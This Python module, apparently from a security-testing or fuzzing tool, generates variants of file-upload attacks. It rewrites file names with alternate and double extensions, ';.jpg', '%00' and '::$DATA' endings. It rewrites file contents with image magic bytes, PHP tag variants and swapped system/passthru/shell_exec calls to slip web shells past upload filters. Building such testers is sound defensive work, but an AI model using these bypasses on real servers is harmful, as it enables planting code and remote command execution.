"""Uploads: names and contents that a server stores and runs the same.

Source: Apache's AddHandler and mod_mime on several extensions, IIS on names; Microsoft, Naming Files, Paths, and Namespaces;
RFC 7578 4.2 and RFC 8187 on file names of parts; PHP's manual on tags.
"""

import re
from dataclasses import replace
from random import Random

from .html import mixed
from .model import Attack, mutation

UPLOAD = ("upload",)
#: Extensions that run by default configurations of the same runtime.
SAME = {
    "php": ("php", "phtml", "php5", "phar", "php7", "pht", "phps"),
    "jsp": ("jsp", "jspx", "jspf"),
    "aspx": ("aspx", "ashx", "asmx", "asp"),
    "asp": ("asp", "asa", "cer"),
}
PROGRAM = re.compile(r"\.(php|jsp|aspx|asp|phtml|jspx|cgi|pl|py)$", re.IGNORECASE)


def named(attack: Attack, write) -> str | None:
    """The payload, if it is a file name with an extension that runs, written otherwise."""
    if attack.part != "filename" or not (found := PROGRAM.search(attack.payload)):
        return None
    return write(attack.payload[: found.start()], found[1])


@mutation("file-case", UPLOAD, "Windows has no case in names, and handlers match extensions without.")
def case(attack: Attack, rng: Random) -> str | None:
    """Mixed case."""
    return named(attack, lambda stem, ext: f"{stem}.{mixed(ext, rng)}")


@mutation("file-extension-same", UPLOAD, "Default configurations run these extensions as well.")
def extension_same(attack: Attack, rng: Random) -> str | None:
    """Another extension of the same runtime."""
    return named(
        attack,
        lambda stem, ext: f"{stem}.{rng.choice([e for e in SAME.get(ext.lower(), (ext,)) if e != ext] or [ext])}",
    )


@mutation("file-extension-double", UPLOAD, "Apache's AddHandler takes any extension of a name; checks look at one.")
def extension_double(attack: Attack, rng: Random) -> str | None:
    """`x.php.jpg`, `x.jpg.php`."""
    return named(
        attack,
        lambda stem, ext: rng.choice(
            (f"{stem}.{ext}.jpg", f"{stem}.jpg.{ext}", f"{stem}.png.{ext}", f"{stem}.{ext}.png")
        ),
    )


@mutation("file-end-dropped", UPLOAD, "Windows drops dots and blanks at the end, and names the stream $DATA by itself.")
def end_dropped(attack: Attack, rng: Random) -> str | None:
    """`x.php.`, `x.php::$DATA`."""
    return named(attack, lambda stem, ext: f"{stem}.{ext}{rng.choice(('.', '...', ' ', '::$DATA', '. .'))}")


@mutation("file-end-cut", UPLOAD, "IIS 6 ends a name at ;, C strings end at NUL, a decoder makes NUL of %00.")
def end_cut(attack: Attack, rng: Random) -> str | None:
    """`x.asp;.jpg`, `x.php%00.jpg`."""
    return named(attack, lambda stem, ext: f"{stem}.{ext}{rng.choice((';.jpg', '%00.jpg', '%20', '%0a', ';x=y.png'))}")


@mutation("file-folders", UPLOAD, "Servers keep the last part of a path, or the path.")
def folders(attack: Attack, rng: Random) -> str | None:
    """`C:\\fakepath\\x.php`, `../x.php`."""
    return named(attack, lambda stem, ext: f"{rng.choice(('img/', 'C:/fakepath/', './', 'a/b/'))}{stem}.{ext}")


@mutation("file-stem", UPLOAD, "The part before the extension is any name.")
def stem(attack: Attack, rng: Random) -> str | None:
    """Another stem."""
    return named(
        attack,
        lambda stem, ext: f"{rng.choice(('photo', 'cv 2026', 'Übersicht', '1', 'a.b.c', 'report-(1)', ''))}.{ext}",
    )


def coding(name: str, why: str):
    """A mutation that writes the file name of a part otherwise."""

    def function(attack: Attack, rng: Random) -> Attack | None:
        if (
            attack.part != "filename"
            or (name == "filename-unquoted" and re.search(r"[\s;\"]", attack.payload))
            or "'" in attack.payload
        ):
            return None
        return attack.coded(name)

    function.__doc__ = why
    mutation(f"file-{name}", UPLOAD, why)(function)


coding(
    "filename-extended",
    "filename* with character set and percent-encoding wins over filename (RFC 6266 4.3, RFC 8187).",
)
coding("filename-unquoted", "A file name without blanks needs no quotes (RFC 9110 5.6.6).")
coding("filename-percent", "PHP, Python and others percent-decode file names that browsers have encoded (RFC 7578 2).")
coding("filename-twice", "Of two file names some servers take the last.")
coding("filename-case", "Names of parameters have no case, and lenient readers skip blanks around = (RFC 2045 5.1).")
coding("filename-single", "PHP takes single quotes.")


def content(attack: Attack) -> bool:
    """Whether the payload is what a file holds."""
    return attack.part == "value" and attack.place == "file"


@mutation("file-image-head", UPLOAD, "PHP, JSP and ASP write out what stands before their tags.")
def image_head(attack: Attack, rng: Random) -> str | None:
    """The first bytes of an image in front."""
    heads = ("GIF89a;\n", "\udcff\udcd8\udcff\udce0\0\x10JFIF\0", "\udc89PNG\r\n\x1a\n", "%PDF-1.4\n", "BM")
    return rng.choice(heads) + attack.payload if content(attack) and attack.payload.startswith("<") else None


@mutation("file-text-around", UPLOAD, "What stands outside the tags is written out.")
def text_around(attack: Attack, rng: Random) -> str | None:
    """Markup before and behind."""
    return (
        f"<html><!-- ok -->\n{attack.payload}\n</html>" if content(attack) and attack.payload.startswith("<") else None
    )


@mutation("file-type", UPLOAD, "The type that a part claims changes nothing on disk.")
def claimed_type(attack: Attack, rng: Random) -> Attack | None:
    """Another type of the part."""
    return (
        replace(attack, content_type=rng.choice(("image/png", "application/octet-stream", "image/gif"))).formed(
            "part-order"
        )
        if content(attack)
        else None
    )


@mutation("file-tag", UPLOAD, "PHP opens by <?php and <?= in any case; blanks follow freely.", ("php",))
def tag(attack: Attack, rng: Random) -> str | None:
    """Another opening tag."""
    return (
        re.sub(r"<\?php\s+", lambda m: rng.choice(("<?PHP\n", "<?php\t", "<?pHp  ", "<?=0;")), attack.payload)
        if content(attack)
        else None
    )


@mutation("file-call-same", UPLOAD, "system, passthru, shell_exec and eval all run what the request brings.", ("php",))
def call_same(attack: Attack, rng: Random) -> str | None:
    """Another function."""
    if not content(attack):
        return None
    return re.sub(
        r"\b(system|passthru|shell_exec)\(",
        lambda m: (
            rng.choice([f for f in ("system", "passthru", "shell_exec", "@system", "\\system") if f != m[1]]) + "("
        ),
        attack.payload,
    )


@mutation("file-input-same", UPLOAD, "Every way to read the request brings the command.", ("php",))
def input_same(attack: Attack, rng: Random) -> str | None:
    """Another superglobal."""
    if not content(attack):
        return None
    return re.sub(
        r"\$_(GET|POST|REQUEST)\[",
        lambda m: f"$_{rng.choice([g for g in ('GET', 'POST', 'REQUEST', 'COOKIE') if g != m[1]])}[",
        attack.payload,
    )
